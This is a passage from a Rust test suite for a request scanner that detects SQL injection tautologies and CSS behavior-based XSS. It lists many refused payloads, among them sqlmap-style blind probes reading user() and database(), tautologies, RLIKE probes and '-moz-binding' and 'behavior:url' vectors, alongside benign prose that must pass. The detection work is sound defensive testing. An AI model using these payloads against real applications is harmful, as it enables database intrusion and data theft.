            "=1 and 1 is true and 1e1e1e1e1e1e1e1e",
            "=1 and 1 is true and 0x0x0x0x0x0x0x0x",
            "=1 and 1 is true and 11111111111111111111111111",
            "=1 and -                1 between -                2 and - ",
            "=1 and 1 between symmetric 2 and 0 xor 0 xor ",
            "- - - - - - - - - - - - - - - - ",
            // Constant expressions: each read bounded (16 terms, 8 parentheses, 128 bytes).
            "=-(-(-(-(-(-(-(-(-(-(",
            "=1 and 1-1-1-1-1-1-1-1-1-1-1-1-1-1-1-1-1-1-1-1=",
            "=--1 or 1 or 1-1 or 2*3 or (1) or ",
            "=1 and (((((((((((1)))))))))))=1 and ",
            "=1 and 1 div 1 mod 1 div 1 mod 1 div 1 mod 1 div 1 mod 1 div 1=1 and ",
        ] {
            let text = unit.repeat(64 * 1024 / unit.len());
            NUMBER_READS.with(|c| c.set(0));
            tautology(text.as_bytes());
            let reads = NUMBER_READS.with(std::cell::Cell::get);
            assert!(
                reads <= 2 * text.len(),
                "{unit}: {reads} bytes read for {}",
                text.len()
            );
        }
        // The whole text one chain: read once, to its end.
        let text = format!("1 and 1 is true{}--", " and 1".repeat(10_000));
        NUMBER_READS.with(|c| c.set(0));
        assert!(tautology(text.as_bytes()));
        let reads = NUMBER_READS.with(std::cell::Cell::get);
        assert!(
            reads <= 2 * text.len(),
            "{reads} bytes read for {}",
            text.len()
        );
    }

    #[test]
    fn a_numeric_injections_not_between_that_holds_is_caught() {
        // `not between` is the range's other spelling: `1 not between 2 and 3` holds as `1 between 0 and 2` does.
        let c = config();
        for text in [
            "id=1 and 1 not between 2 and 3",
            "id=1 and 5 not between 0 and 1-- -",
            "id=1 and -1 not between 0 and 2 and 1",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "id=1 and 1 not between 0 and 2",
            "id=1 and 1 not between 2 and 3 hours",
            "Step 1 and 5 not between 1 and 3 days",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_numeric_injections_range_with_parenthesised_bounds_is_caught() {
        // SQL reads `between (0) and (2)` as `between 0 and 2`.
        let c = config();
        for text in [
            "id=1 and 1 between (0) and (2)",
            "id=1 and 1 between 0 and (2)-- -",
            "id=1 and 1 between ((0)) and 2",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "id=1 and 1 between (2) and (3)",
            "id=1 and 1 between (0) and (2) hours",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_numeric_injection_after_a_value_starting_with_a_signed_or_spelled_number_is_caught() {
        // `id=-1 …` (a row that does not exist, the union and boolean probes' favourite), `id=1.0 …` and `id=0x1 …`
        // start a numeric injection as `id=1 …` does: SQL reads each as a number.
        let c = config();
        for text in [
            "id=-1 and 1=2",
            "id=-1 or id>0",
            "id=1.0 and 1=2",
            "id=0x1 and 1 between 0 and 2",
            "id=+1 and 1 is true",
            "-1 and 1=2",
            "id=1e0 and not 0",
            "id=-1 order by 5--",
        ] {
            assert!(scan(&c, text, "query").is_some(), "{text}");
        }
        for text in [
            "v=1.2.3 and 1 is true to the plan",
            "id=-1 and 2 more",
            "x=-1.5 and y=2",
            "temp=-5 and falling",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_numeric_injections_comparison_with_a_signed_operand_is_caught() {
        // SQL's unary minus and plus on either side of a comparison: `1=-1` is false, `-1=-1` true, and a blind
        // probe's `ascii(…)>-1` reads as `ascii(…)>0` does.
        let c = config();
        for text in [
            "id=1 and 1=-1",
            "id=1 and -1=-1",
            "id=1 and -1=1",
            "id=1 and 1=+1",
            "id=1 or id>-1",
            "id=1 and ascii(substr(user(),1,1))>-1",
            "id=1 and length(database())>-1-- -",
            "' or -1=-1--",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "5 and 10 = -15",
            "x=1 and y=-1",
            "score 1 and -1=-1 points",
            "rated 1 and -1=-1",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_literal_predicates_chain_may_hold_xor_and_its_range_may_be_symmetric() {
        // MySQL's `xor 0` keeps the predicate's truth as `and 1` does; PostgreSQL's `between symmetric` holds
        // between its bounds in either order (`asymmetric` is the default spelled out).
        let c = config();
        for text in [
            "id=1 and 1 between 0 and 2 xor 0",
            "id=1 and 1 is true xor 0 and 1-- -",
            "id=1 and 1 between symmetric 2 and 0",
            "id=1 and 1 between symmetric 0 and 2",
            "id=1 and 1 between asymmetric 0 and 2",
            "id=1 and 5 not between symmetric 9 and 6",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "id=1 and 1 between 0 and 2 xor 1",
            "id=1 and 1 between 0 and 2 xor",
            "id=1 and 1 between 0 and 2 xory",
            "id=1 and 1 between asymmetric 2 and 0",
            "id=1 and 1 between symmetric 2 and 0 hours",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_numeric_injections_signed_number_may_have_blanks_after_its_sign() {
        // SQL reads `- 1` as `-1`: the unary minus is an operator, blanks after it are the statement's.
        let c = config();
        for text in [
            "id=1 and - 1 between -2 and 0",
            "id=1 and 1 between - 1 and 2",
            "id=1 and not - 0",
            "id=1 and - 1 is true",
            "id=1 and - 1=- 1",
            "id=1 and ascii(substr(user(),1,1))>- 1",
            "id=1 and 1 between 0 and 2 and - 1",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "id=1 and - 1 between 0 and 2",
            "id=1 and not - 1",
            "- 1 and 1 is true",
            "x is between - 1 and 1",
            "Step 1 and - 1 between -2 and 0 degrees",
            "id=1 and -- 1 is true",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_numeric_injections_literal_predicate_with_a_signed_number_is_caught() {
        // SQL's unary minus and plus: `-1 between -2 and 0` holds, `not -0` is 1, `+1` is 1.
        let c = config();
        for text in [
            "id=1 and -1 between -2 and 0",
            "id=1 and -1 is true",
            "id=1 and -1 is not null",
            "id=1 and +1 is true",
            "id=1 and -0.5e1 between -9 and 0",
            "id=1 and -0x1 is true-- -",
            "id=1 and 1 between +0 and 2",
            "id=1 and 1 between 0 and +2",
            "id=1 and not -0",
            "id=1 and not(-0)",
            "id=1 and not +0",
            "id=1 and !-0",
            "id=1 and 1 between 0 and 2 and +1",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        for text in [
            "id=1 and -1 between 0 and 2",
            "id=1 and -1 is false",
            "id=1 and +0 is true",
            "id=1 and not -1",
            "id=1 and 1 between 0 and 2 and +0",
            "Step 1 and -1 between -2 and 0 degrees",
            "rated 1 and -1 between -2 and 0",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn css_behaviors_and_bindings_that_load_script_are_caught() {
        // IE5–9's HTML Components and Firefox 1–3's XBL bindings run the script of the file the sheet names.
        let c = config();
        for text in [
            "<p style=\"behavior:url(x.htc)\">",
            "<p style=\"behavior : url('//x.example/x.htc')\">",
            "a{behavior: url(#default#time2)}",
            "<div style=\"-moz-binding:url(//x.example/x.xml#xss)\">",
            "body{-moz-binding: url(\"x.xml#a\")}",
            "<p style=\"beh\\61vior:url(x.htc)\">",
            "<p style=\"-moz-bin/**/ding:url(x.xml#a)\">",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("xss-dom"),
                "{text}"
            );
        }
        for text in [
            "behavior: unexpected, see url(docs)",
            "Browser behavior: URLs are case-sensitive",
            "misbehavior:url(x)",
            "a { scroll-behavior: smooth; overscroll-behavior: contain }",
            "the -moz-binding property is gone since Firefox 4",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn ie6s_underscore_hack_on_behavior_is_caught() {
        // IE6 reads `_behavior` as `behavior` (the underscore hack hides a property from other browsers), and IE6
        // runs behaviors: `*behavior`, IE7's star hack, is caught already.
        let c = config();
        for text in [
            "a{_behavior:url(x.htc)}",
            "<p style=\"_behavior: url(x.htc)\">",
            "a{*behavior:url(x.htc)}",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("xss-dom"),
                "{text}"
            );
        }
        for text in ["my_behavior:url(x.htc)", "user_behavior: url(x)"] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    #[test]
    fn a_bug_reports_behavior_heading_before_a_url_in_prose_passes() {
        // Issue templates' "Expected behavior:"/"Actual behavior:" headings meet "URL(s)" and "url()" in prose: a
        // word follows the `)`, where CSS has the declaration's end, another `url(…)`, or `!important`.
        let c = config();
        for text in [
            "Expected behavior: URL(s) with a trailing slash redirect",
            "Actual behavior: url(s) are dropped",
            "Observed behavior: url(...) is called twice",
            "<p>Expected behavior: URL(s) should be lowercased</p>",
            "{\"body\":\"Expected behavior: url(s) should be kept\"}",
            "the behavior: url(x) thing",
            "Expected -moz-binding: url(x) is ignored since Firefox 4",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
        for text in [
            "a{behavior:url(x.htc) !important}",
            "a{behavior:url(a.htc) url(b.htc)}",
            "a{behavior:url(a.htc), url(b.htc)}",
            "<p style=behavior:url(x.htc)>",
            "<p style='behavior:url(x.htc)'>",
            "a{behavior:url(x.htc)/**/}",
            "a{behavior:url(x.htc)",
            "a{behavior:url('x).htc')}",
            "a{behavior:url(x.htc)\\;}",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("xss-dom"),
                "{text}"
            );
        }
    }

    #[test]
    fn a_behaviors_url_ends_its_value_before_a_newline_but_prose_after_urls_passes() {
        // CSS's blanks are tabs and newlines too: a style sheet written a declaration a line ends its last one with
        // a newline and `}`. A bug report's "URL(s)" before a newline, `,` or `/` in prose — escaped in a JSON body,
        // whose raw text is scanned too — is no declaration's end.
        let c = config();
        for text in [
            "a {\n  behavior: url(x.htc)\n}",
            "a{behavior:url(x.htc)\t}",
            "a{behavior:url(x.htc)\r\n}",
            "{\"css\":\"a {\\n  behavior: url(x.htc)\\n}\"}",
            "<p style=behavior:url(x.htc)/>",
            "a{behavior:url(a.htc),\nurl(b.htc)}",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("xss-dom"),
                "{text}"
            );
        }
        for text in [
            "Expected behavior: URL(s)\nActual behavior: none",
            "{\"body\":\"Expected behavior: URL(s)\\nActual behavior: none\"}",
            "{\"body\":\"Expected behavior: URL(s)\\r\\nActual behavior: none\"}",
            "Expected behavior: URL(s), query and hash preserved",
            "Expected behavior: URL(s)/paths are kept",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text:?}");
        }
    }

    #[test]
    fn a_numeric_injections_literal_predicate_is_caught_in_its_other_spellings() {
        // The sixth review's predicates with what ends a statement after them (as `id=1 and 1=2--` is caught), MySQL's
        // `is [not] true|false|unknown`, `null is null`, and `not` spelled `not(…)` or `!`.
        let c = config();
        for text in [
            "id=1 and not 1=2--",
            "id=1 and not 1=2#",
            "id=1 and not 1=2;",
            "id=1 or not 1=2/*",
            "id=1 and not 'a'='b'",
            "id=1 and 1 is true",
            "id=1 and 1 is not false",
            "id=1 and 0 is false",
            "id=1 and 0 is not true",
            "id=1 and 1 is not unknown",
            "id=1 and null is null",
            "id=1 and null is unknown",
            "id=1 and not(0)",
            "id=1 and not (0)",
            "id=1 and !0",
            "id=1 and !(0)",
            "id=1 and (!0)",
            "id=1 and !false",
            "id=1 and !1=2",
        ] {
            assert_eq!(
                scan(&c, text, "query").map(|h| h.rule),
                Some("sqli-tautology"),
                "{text}"
            );
        }
        // Prose goes on past them, and a predicate that does not hold is no truth.
        for text in [
            "Page 1 and not 0 items",
            "Step 1 and 1 is true to the plan",
            "1 and null is null here",
            "rooms 1 and not (0 or 2)",
            "id=1 and 1 is false",
            "id=1 and 0 is true",
            "id=1 and null is not null",
            "id=1 and !1",
        ] {
            assert_eq!(scan(&c, text, "query"), None, "{text}");
        }
    }

    /// The window walk the call index replaced (1f5962a's `wraps_blind_function` and `call_end`), kept as the index's
    /// oracle: whether the call at `args`' `(` wraps a blind function, and where its `)` closes within the window.
    fn walked_call(text: &[u8], paren: usize) -> (bool, Option<usize>) {
        let args = &text[paren..text.len().min(paren + CALL_WINDOW)];
        if args.first() != Some(&b'(') {
            return (false, None);
        }
        let mut depth = 0usize;
        let close = args.iter().position(|&b| {
            depth = match b {
                b'(' => depth + 1,
                b')' => depth.saturating_sub(1),
                _ => depth,
            };
            depth == 0
        });
        let inside = &args[..close.unwrap_or(args.len())];
        // The calls inside it: a `(` after its own (`inside[0]`).
        let wraps = memchr::memchr_iter(b'(', &inside[1..]).any(|at| {
            let name = skip_back(&inside[..=at], b" ");
            let start = name_start(name);
            BLIND_FUNCTIONS.contains(&&name[start..])
        });
        (wraps, close.map(|close| paren + close))
    }

    #[test]
    fn the_call_index_decides_as_the_window_walk_did_on_random_texts() {
        // Texts of parentheses, blind and other names, blanks and commas, long enough to cross the window; each `(`
        // asked from a random suffix, as `always_true` asks. No quotes: a quoted name is the index's own addition.
        let pieces: [&[u8]; 10] = [
            b"(", b")", b"ascii", b"f", b" ", b"x", b",", b"mid", b"length_", b"((",
        ];
        let mut state = 0x9e37_79b9_7f4a_7c15u64;
        let mut next = |n: usize| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % n as u64) as usize
        };
        let mut seen = [0usize; 4];
        for _ in 0..300 {
            let len = 1 + next(1500);
            let mut text = Vec::new();
            while text.len() < len {
                text.extend_from_slice(pieces[next(pieces.len())]);
            }
            let calls = Calls::new(&text);
            let from = next(text.len());
            let suffix = &text[from..];
            for paren in memchr::memchr_iter(b'(', suffix) {
                let (wraps, close) = walked_call(suffix, paren);
                let text = String::from_utf8_lossy(suffix);
                assert_eq!(calls.wraps_blind(suffix, paren), wraps, "{paren} in {text}");
                assert_eq!(calls.close(suffix, paren), close, "{paren} in {text}");
                seen[usize::from(wraps) * 2 + usize::from(close.is_some())] += 1;
            }
        }
        // Each outcome met: wrapping or not, closed within the window or not.
        assert!(seen.iter().all(|&n| n > 100), "{seen:?}");
    }

    #[test]
    fn calls_in_a_long_text_are_matched_once_not_from_each_equals_sign() {
        // From each `=` the call's window was walked for its `)` and again for a blind function inside it: 64 KiB of
        // `=1 and f(((` read ~20 million bytes (~190 ms on the host). The text's parentheses are now matched once.
        for unit in [
            "=1 and f(((",
            "=1 and char(((",
            "' and f(((",
            "=1 and `ascii`(((",
        ] {
            let text = unit.repeat(64 * 1024 / unit.len());
            CALL_READS.with(|c| c.set(0));
            assert!(!tautology(text.as_bytes()), "{unit}");
            let reads = CALL_READS.with(std::cell::Cell::get);
            assert!(
                reads <= text.len(),
                "{unit}: {reads} bytes read for {}",
                text.len()
            );
        }
        // A call still closes and wraps as before.
        let calls = Calls::new(b"x(ab(c)d) (");
        assert_eq!(calls.close(b"x(ab(c)d) (", 1), Some(8));
        assert_eq!(calls.close(b"(c)d) (", 0), Some(2));
        assert_eq!(calls.close(b"x(ab(c)d) (", 10), None);
        let wrapping = b"f(1,ascii(x)) g(1)";
        let calls = Calls::new(wrapping);
        assert!(calls.wraps_blind(wrapping, 1));
        assert!(!calls.wraps_blind(wrapping, 15));
    }

    #[test]
    fn a_hexadecimal_string_literal_is_a_number_where_one_is_compared() {
        refused(
            &[
                "id=1+and+x%2701%27%3D1",
                "id=1+and+X%2701%27%3D1",
                "id=1+or+x%2700%27%3D0",
                "id=1+and+x%2741%27%3D0x41",
                "u=%27+or+x%2701%27%3D1--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "x'01' is a hex notation",
            "box'01'=1",
            "a x'41' b",
            "1 and x'01' is a hex notation",
        ]);
    }

    #[test]
    fn a_constant_expression_starting_with_a_parenthesis_is_read_whole() {
        refused(
            &[
                "id=1+and+(1)%2F(1)%3D1",
                "id=1+or+(2)*(3)%3D6",
                "id=1+and+(2)-(1)%3D1",
                "id=1+and+((1)%2F(1))%3D1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "size (1)/(2) and more",
            "rooms 1 and (2)/(3) of the hall",
            "step 1 and (2)*(3) is six",
            "items 1 and (2)>(1) are sorted",
            "1 and (2)",
        ]);
    }

    #[test]
    fn a_blind_probe_as_the_whole_value_is_caught() {
        refused(
            &[
                "id=ascii(substr(user()%2C1%2C1))%3E64+and+1",
                "id=length(database())%3E1+and+1",
                "id=ord(mid(version()%2C1%2C1))%3E51",
                "id=length(database())+between+1+and+9",
                "id=(ascii(substr(current_user()%2C1%2C1))%3E64)--",
                // The name quoted, as MySQL's `` ` `` and PostgreSQL's `"` quote it, glued or spaced.
                "id=%60ascii%60(substr(user()%2C1%2C1))%3E64",
                "id=%22length%22+(database())%3E1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "ascii(art) > 64 and more",
            "ascii(user) > 64",
            "length(database) > 1",
            "=LEN(MID(A1,2,3))>1",
            "len(platform.version())>1",
            "length(database()) is how long the name is",
        ]);
    }

    #[test]
    fn an_if_reading_the_servers_data_as_the_whole_value_is_caught() {
        refused(
            &[
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)",
                "id=IF(length(database())%3E1%2C1%2C0)--",
                "id=iif(len(db_name())%3E1%2C1%2C0)",
            ],
            "sqli-tautology",
        );
        passes(&[
            "=IF(LEN(A1)>1,1,0)",
            "=IF(A1>1,\"yes\",\"no\")",
            "=IF(LEN(MID(A1,2,3))>1,1,0)",
            "if(length(database())>1, a, b) and more",
        ]);
    }

    #[test]
    fn a_value_spelled_as_glued_arithmetic_before_a_condition_is_read_whole() {
        refused(
            &[
                "id=1-0+and+1%3D1",
                "id=1*1+and+1%3D1",
                "id=2%2F2+or+1%3D1",
                "id=1-0+and+ascii(substr(user()%2C1%2C1))%3E64",
            ],
            "sqli-tautology",
        );
        passes(&[
            "chapters 1-2 and 3",
            "1-2 and 3 are done",
            "pages=1-2 and 3",
            "2*3=6 and 2*4=8",
            "10-5 and more",
        ]);
    }

    #[test]
    fn a_glued_comparison_before_a_unit_is_prose() {
        // A number, arithmetic maybe, then `and`/`or` and two glued literals compared: sqlmap ends the value there,
        // comments the rest out or goes on with SQL; a unit after it is prose, and a query it reached would fail.
        passes(&[
            "size=10*20 and 5=5 cm",
            "dims=2*3 or 4=4 inches",
            "rooms=1 and 2=2 beds",
            "10 and 5=5 cm",
        ]);
        refused(
            &[
                "id=1+and+5%3D5",
                "id=10*20+and+5%3D5--",
                "id=1+and+5%3D5+order+by+1",
                "id=1)+and+5%3D5+and+(3%3D3",
                "id=1+or+4%3D4+limit+1",
                // Words SQL reads there in one dialect or another: an operator, a clause, a join, a sort key's.
                "id=1+and+5%3D5+glob+1",
                "id=1+and+5%3D5+member+of+('%5B1%5D')",
                "id=1+and+5%3D5+notnull",
                "id=1+and+5%3D5+option+(recompile)",
                "id=1+and+5%3D5+connect+by+1%3D1",
                "id=1+and+5%3D5+left+join+t+on+1",
                "id=1+and+5%3D5+desc",
                // SQL Server runs the next statement of a batch without a `;`, a label's too.
                "id=1+and+5%3D5+select+password+from+users",
                "id=1+and+5%3D5+print+1",
                "id=1+and+5%3D5+set+%40a%3D1",
                "id=1+and+5%3D5+begin+select+1+end",
                "id=1+and+5%3D5+lbl%3A+print+1",
            ],
            "sqli-tautology",
        );
    }

    #[test]
    fn a_spreadsheet_formula_multiplying_a_comparison_passes() {
        passes(&[
            "=(1=1)*1",
            "=(2>1)*10",
            "{\"formula\": \"=(1=1)*5\"}",
            "| cell | =(3=3)*2 |",
        ]);
        refused(
            &["id=(1234%3D1234)*5678", "a%5Bb%5D=(5678%3D1234)*5678"],
            "sqli-tautology",
        );
    }

    #[test]
    fn code_assigning_a_call_that_reads_like_the_servers_is_no_whole_value_probe() {
        passes(&[
            "ok = len(current_user()) > 0;",
            "x = upper(user()) > 3;",
            "`x = len(version()) > 3;`",
        ]);
        refused(
            &[
                "id=length(database())%3E1",
                "a%5Bb%5D=ascii(substr(user()%2C1%2C1))%3E64",
                "id=if(length(user())%3E1%2C1%2C0)",
            ],
            "sqli-tautology",
        );
    }

    #[test]
    fn a_php_method_or_static_call_named_user_reads_no_servers_data() {
        // Laravel's `auth()->user()` and `Auth::user()` in a code snippet: a count compared and a `;` after it, as
        // a blind probe ends, but the call is PHP's, not MySQL's `user()`.
        passes(&[
            "$hasRoles = count(auth()->user()->roles) > 0;",
            "$n = count(Auth::user()->posts) > 5;",
            "$long = strlen($x) + count($request->user()->tags) > 3; and more",
            "$ok = count(\\Auth::user()->roles) > 0;",
        ]);
        refused(
            &["id=count(user())%3E0%3B", "id=length(user%20())%3E1"],
            "sqli-tautology",
        );
    }

    #[test]
    fn mysqls_make_set_and_elt_picking_by_a_condition_are_caught() {
        refused(
            &[
                "id=make_set(1%3D1%2C5)",
                "id=elt(ascii(substr(user()%2C1%2C1))%3E64%2C5)",
                "id=1+and+make_set(1%3D1%2C5)",
                "id=-1+or+elt(1%3D1%2C5)",
            ],
            "sqli-tautology",
        );
        passes(&[
            "make_set(a,b)",
            "elt(2,'a','b')",
            "elt(1=1,5) and more",
            "the elt(x=1) call",
        ]);
    }

    #[test]
    fn a_chain_of_literals_before_an_injected_condition_hides_nothing() {
        refused(
            &[
                "id=1+and+1+and+1%3D1",
                "id=1+or+0+or+1%3D1",
                "id=1+and+true+and+1%3D2",
                "id=1+and+1+and+ascii(substr(user()%2C1%2C1))%3E64",
                "id=1+and+1+and+1+between+0+and+2",
                "u=%27+and+1+and+1%3D1--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "1 and 2 and 3 = 6 total",
            "1 and 2 or 3 and 4 = 5",
            "1 and 2 and 3 are done",
            "O'Brien and 1 and 2 -- great",
        ]);
    }

    #[test]
    fn a_negated_list_or_range_is_read_as_its_positive_form() {
        refused(
            &[
                "id=1+and+ascii(substr(user()%2C1%2C1))+not+between+1+and+2",
                "id=1+and+length(user())+not+in+(1)",
                "u=%27+or+id+not+in+(1)--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "1, 2 and 3 not in (4) list",
            "'x' and 1 and name not in (1) here",
        ]);
    }

    #[test]
    fn sqlmaps_condition_multiplied_by_a_number_as_the_whole_value_is_caught() {
        refused(
            &[
                "id=(1234%3D1234)*5678",
                "id=(5678%3D1234)*5678",
                "id=(ascii(substr(user()%2C1%2C1))%3E64)*5678",
                "id=(ord(mid((ifnull(cast(current_user()+as+nchar)%2C0x20))%2C1%2C1))%3E64)*5678",
                // Blanks inside, nested parentheses, a factor in parentheses: SQL reads each as the glued shape.
                "id=(1234+%3D+1234)*5678",
                "id=((1234%3D1234))*5678",
                "id=(1234%3D1234)*(5678)",
                "id=(+(1234%3D1234)+)+*+(+5678+)",
            ],
            "sqli-tautology",
        );
        passes(&[
            "(1=1)",
            "(1=1)*5 apples",
            "(2=2)*3 is six",
            "x=(1)*(2)",
            "((2 = 2))*(3) is six",
            "total=((2>1))*(10)",
        ]);
    }

    #[test]
    fn a_literals_in_list_holding_a_call_that_reads_the_servers_data_is_caught() {
        // The list read to its own `)`, past the calls in it: `1 in (ascii(…))` is `1=ascii(…)`.
        refused(
            &[
                "id=1+and+1+in+(ascii(substr(user()%2C1%2C1)))",
                "id=1+and+1+in+(ascii(substr(user()%2C1%2C1)))--",
                "id=1+and+64+not+in+(ascii(substr(user()%2C1%2C1)))",
                "id=1+and+1+in+(length(database()))",
                // A column read a character at a time: a blind call wrapping another.
                "id=1+and+97+in+(ascii(substr(password%2C1%2C1)))",
                "id=1+and+97+in+(ord(mid(password%2C1%2C1)))--",
                "id=1+and+5+not+in+(length(hex(password)))",
                // A list of one blind call of a column, as `id=1 and length(password)>5` compares one (and so
                // `x=1 and 2 in (len(s))`, refused as `x=1 and len(s)>2` always was).
                "id=1+and+5+in+(length(password))",
                "id=1+and+5+in+(+length+(password)+)--",
                "x=1 and 2 in (len(s))",
                // The call in parentheses of its own, or beside numbers that are not the literal, which never hold:
                // `length(password)=5` still (and so `x=1 and 2 in (len(s), 3)`, `x=1 and len(s)=2`).
                "id=1+and+5+in+((length(password)))",
                "id=1+and+5+in+(length(password)%2C-1)",
                "id=1+and+5+in+(-1%2C+(+length(password)+)%2C+null)--",
                "x=1 and 2 in (len(s), 3)",
                // The one call twice: `length(password)=5` still.
                "id=1+and+5+in+(length(password)%2Clength(password))",
            ],
            "sqli-tautology",
        );
        passes(&[
            "pick 1 and 2 in (3) and 4",
            // Two calls, or a word beside the call: no one column's probe.
            "x=1 and 2 in (len(s), len(t))",
            "x=1 and 2 in (len(s), three)",
            "x=1 and 2 in (len(s)) of the list",
            "x=1 and 97 in (ascii(substr(password,1,1))) of the docs",
            "1, 2 and 3 not in (4) list",
            "x=1 and 1 in (f(2),3)",
            "id=1 or 1 in (2)",
        ]);
    }

    #[test]
    fn a_string_left_open_that_mysql_reads_as_its_leading_number_is_caught() {
        // `'or'1=1` is `''or'1=1'`: MySQL reads `'1=1'` as 1, with or without blanks around the `or`.
        refused(
            &[
                "id=%27or%271=1",
                "id=%27+or+%271=1",
                "id=%27||%272>1",
                "id=x%27+or+%27+1=1",
                "id=%27or%271+=1",
                "id=%27or%271/**/=1",
                "id=%27or%271%0b%3E0",
                // Coverage only (refused before): a word comparison, `'1 like 1'` read as 1.
                "id=%27or%271+like+1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "I like 'jazz' or '90s pop",
            "rated 'good' or '5 stars",
            "He said 'yes' or '1=1 is always true'",
            "'A' or '0=0",
        ]);
    }

    #[test]
    fn two_names_compared_at_the_end_of_a_numeric_injection_are_caught() {
        refused(
            &[
                "id=1+OR+x=y",
                "id=1+and+a%3Db",
                "id=1+or+x=y--",
                "id=1)+or+(x=y",
                // In a range's spelling, as sqlmap's `between` tamper writes a comparison.
                "id=1+or+x+between+y+and+y",
                "id=1+and+x+not+between+y+and+y--",
            ],
            "sqli-tautology",
        );
        passes(&[
            "we meet x between y and z",
            "id=1 or x between y and y later",
            "pick 1 or a between b and b then",
            // Two bounds that differ are English's range, not a comparison's spelling.
            "2 or more between jan and feb",
            "3 or so between march and april",
            "id=1 or x not between y and z",
        ]);
        // Prose and code go on past the comparison, or compare no two names.
        passes(&[
            "if a=1 or b=c then stop",
            "a or b=c",
            "x=y",
            "x=1 or y=2",
            "rating=5 or a=b and more",
            "Where 1 and x=y, the form is symmetric",
            "if x=1 and y==z:",
            // Settings quoted in a ticket or a note: a `name=value` inside the text, not the value itself.
            "I set debug=1 and mode=verbose",
            "config: workers=4 and queue=redis",
            "Filter with status=1 and type=admin",
            "the filter a=1 or b=c",
            "note=I set debug=1 and mode=verbose",
        ]);
    }

    #[test]
    fn a_number_glued_to_a_keyword_is_read_as_mysql_reads_it() {
        // `5.0limit` is `5.0 limit` to MySQL's lexer (a fraction or an exponent ends the number).
        refused(
            &[
                "id=1+and+5=5.0limit+1",
                "id=1+and+5=5e0limit+1",
                "id=1+and+5=5.0order+by+1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "size=10*20 and 5=5.0cm",
            "version 1.0beta and 2.0rc1",
            "id=1 and 1.5e3x",
        ]);
    }

    #[test]
    fn mysqls_regular_expression_picked_by_a_condition_is_caught() {
        // sqlmap's RLIKE probe: the false branch's `0x28` (an unclosed `(`) fails the query.
        refused(
            &[
                "id=1+rlike+if(1%3D1%2C1%2C0x28)",
                "id=1+RLIKE+IF(1%3D1%2C1%2C0x28)--+-",
                "id=1+regexp+if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0x28)",
                "id=1+rlike+(case+when+1%3D1+then+1+else+0x28+end)",
                "id=1/**/rlike/**/if(1%3D1%2C1%2C0x28)",
                "id=1+and+1+rlike+if(1%3D1%2C1%2C0x28)",
                "id=1+and+1%3Delt(1%3D1%2C1)",
            ],
            "sqli-tautology",
        );
        passes(&[
            "the 1 rlike if(x) thing",
            "1 regexp if you like",
            "x=if(a>b,1,0) and y=1",
        ]);
    }

    #[test]
    fn an_if_picking_by_a_predicate_on_the_servers_data_is_caught() {
        // The condition of a whole-value `if` is any predicate, not only a comparison's operator.
        refused(
            &[
                "id=if(user()+like+'r%25'%2C1%2C0)",
                "id=if(user()+regexp+'%5Er'%2C1%2C0)",
                "id=if(ascii(substr(user()%2C1%2C1))+between+64+and+128%2C1%2C0)",
                "id=if(ascii(substr(user()%2C1%2C1))+in+(97)%2C1%2C0)",
                "id=iif(system_user+like+'s%25'%2C1%2C0)",
                // sqlmap's `and N=N` suffix after the probe keeps its truth, as `and 1` does.
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+1%3D1",
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+1%3D1--",
                "id=ascii(substr(user()%2C1%2C1))%3E64+and+5%3D5+and+1",
                // The suffix spelled by hand: any two constants compared that hold, blanks or parentheses around.
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+1%3D1.0",
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+0x1%3D1",
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and+1+%3D+1",
                "id=if(ascii(substr(user()%2C1%2C1))%3E64%2C1%2C0)+and(1%3D1)",
